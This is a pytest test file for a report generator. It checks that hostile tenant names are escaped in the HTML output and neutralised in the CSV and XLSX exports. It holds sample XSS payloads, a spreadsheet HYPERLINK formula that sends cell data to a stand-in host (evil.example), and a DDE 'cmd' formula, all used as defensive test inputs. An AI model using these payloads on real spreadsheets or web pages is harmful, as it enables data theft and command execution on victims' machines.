"""Hostile tenant values: no executable markup in the page, no formula in the exports."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from license_analyzer.report.build import write_report
from license_analyzer.report.safety import (
    chart_label,
    neutralize_cell,
    safe_http_url,
    script_json,
)
from license_analyzer.store.db import Store
from license_analyzer.store.models import StreamState
from tests.report.conftest import parse_page, report_config
from tests.report.report_store import AS_OF, build_report_store

HOSTILE = (
    "<script>alert('s')</script>",
    "</script><script>alert('b')</script>",
    "<!--",
    "javascript:alert('j')",
    '"><img src=x onerror=alert(\'i\')>',
    "line\u2028sep\u2029arator & <b>bold</b>",
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _render(store: Store, folder: Path, names: tuple[str, ...], departments: tuple[str, ...],
            note: str) -> str:
    build_report_store(store, names=names, departments=departments, note=note)
    return write_report(report_config(), store, folder, AS_OF).read_text("utf-8")


def _shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with its attribute names (ids made by Plotly differ between renders)."""
    return [(tag, tuple(name for name, _ in attrs)) for tag, attrs in parse_page(html).tags]


@pytest.fixture
def hostile_page(store: Store, tmp_path: Path) -> str:
    with store.session() as s:
        for i, partition in enumerate(("javascript:alert('p')", HOSTILE[4])):
            s.add(StreamState(profile="contoso", stream=f"stream{i}", partition=partition,
                              status="ok", updated_at=datetime(2026, 11, 21, tzinfo=UTC)))
    return _render(store, tmp_path, HOSTILE + (FORMULA,), HOSTILE[:3] + (FORMULA,),
                   note=" ".join(HOSTILE))


def test_hostile_names_add_no_element_or_attribute(hostile_page: str, tmp_path: Path) -> None:
    from license_analyzer.store.db import open_store

    benign = open_store(f"sqlite:///{tmp_path / 'benign.db'}", base=tmp_path,
                        data_dir=tmp_path / "benign-data")
    with benign.session() as s:
        for i in range(2):
            s.add(StreamState(profile="contoso", stream=f"stream{i}", partition=f"env {i}",
                              status="ok", updated_at=datetime(2026, 11, 21, tzinfo=UTC)))
    try:
        plain = _render(benign, tmp_path / "benign", tuple(f"Name {i}" for i in range(7)),
                        ("Dept a", "Dept b", "Dept c", "Dept d"), note="fine")
    finally:
        benign.dispose()
    # the same page structure, element for element, whatever the names are
    assert _shape(hostile_page) == _shape(plain)

    page = parse_page(hostile_page)
    assert not [t for t, _ in page.tags if t in ("img", "b", "iframe", "object", "embed")]
    for _, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), name
            if name in ("href", "src", "action", "formaction"):
                assert value is not None and not value.lower().startswith("javascript"), value
    assert page.comments == []
    # the one environment link on the page is the real https environment
    links = [dict(attrs)["href"] for tag, attrs in page.tags if tag == "a"]
    assert [h for h in links if h and "://" in h] == ["https://sales.crm.dynamics.com"]
    scripts = [(attrs, text) for attrs, text in page.scripts]
    assert not [t for _, t in scripts if "alert(" in t and "<script" in t]


def test_hostile_names_round_trip_through_the_embedded_json(hostile_page: str) -> None:
    page = parse_page(hostile_page)
    block = next(text for attrs, text in page.scripts if attrs.get("id") == "candidate-data")
    for needle in ("<", ">", "\u2028", "\u2029"):
        assert needle not in block
    data = json.loads(block)
    names = {row[data["columns"].index("name")] for row in data["rows"]}
    assert names == set(HOSTILE[:6])
    reasons = {row[data["columns"].index("reason")] for row in data["rows"]}
    assert all(" ".join(HOSTILE) in r for r in reasons)


def test_hostile_text_is_shown_as_text(hostile_page: str) -> None:
    assert "&lt;script&gt;alert(&#39;s&#39;)&lt;/script&gt;" in hostile_page
    assert "&#34;&gt;&lt;img src=x onerror=alert(&#39;i&#39;)&gt;" in hostile_page
    # chart labels are entity-escaped before Plotly, which renders entities as characters
    assert "\"&lt;!--\"" in hostile_page


def test_formula_names_are_inert_in_csv_and_xlsx(store: Store, tmp_path: Path) -> None:
    build_report_store(store, names=(FORMULA, "+SUM(1)", "-2+3", "@cmd", "\tTab", "\rCR"),
                       departments=("=1+1",), note="=cmd|' /C calc'!A0")
    write_report(report_config(), store, tmp_path, AS_OF)
    folder = tmp_path / "2026-11-21"

    with (folder / "candidates.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {"decision", "note", "evidence_hash"} <= set(rows[0])
    by_id = {r["id"]: r for r in rows}
    assert by_id["c-00000000"]["display_name"] == "'" + FORMULA
    assert {r["display_name"] for r in rows} == {
        "'" + FORMULA, "'+SUM(1)", "'-2+3", "'@cmd", "'\tTab", "'\rCR"}
    assert {r["department"] for r in rows} == {"'=1+1"}
    assert all(r["reason"].startswith("No activity") for r in rows)  # untouched: not risky

    sheet = load_workbook(folder / "candidates.xlsx").active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert {"decision", "note", "evidence_hash"} <= set(header)
    name_col = header.index("display_name")
    cells = [row[name_col] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == 6
    for cell in cells:
        assert cell.data_type == "s"
        assert isinstance(cell.value, str) and cell.value.startswith("'")
    saving = [row[header.index("monthly_saving")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, (int, float)) for v in saving)  # numbers stay numbers


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralize_cell_quotes_formula_starts(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "", "'=already", 5, -3.5, None])
def test_neutralize_cell_leaves_safe_values(value: object) -> None:
    assert neutralize_cell(value) == value


def test_script_json_cannot_close_the_script_block() -> None:
    text = script_json({"a": "</script><!--<script>&\u2028\u2029"})
    assert not any(c in text for c in "<>&\u2028\u2029")
    assert json.loads(text) == {"a": "</script><!--<script>&\u2028\u2029"}


@pytest.mark.parametrize(("url", "ok"), [
    ("https://contoso.crm.dynamics.com", True), ("http://x.example/a", True),
    ("javascript:alert(1)", False), (" JavaScript:alert(1)", False), ("data:text/html,x", False),
    ("//evil.example", False), ("/relative", False), (None, False),
])
def test_safe_http_url(url: str | None, ok: bool) -> None:
    assert (safe_http_url(url) is not None) == ok


def test_chart_label_escapes_markup() -> None:
    assert chart_label('<a href="javascript:x">') == "&lt;a href=&quot;javascript:x&quot;&gt;"
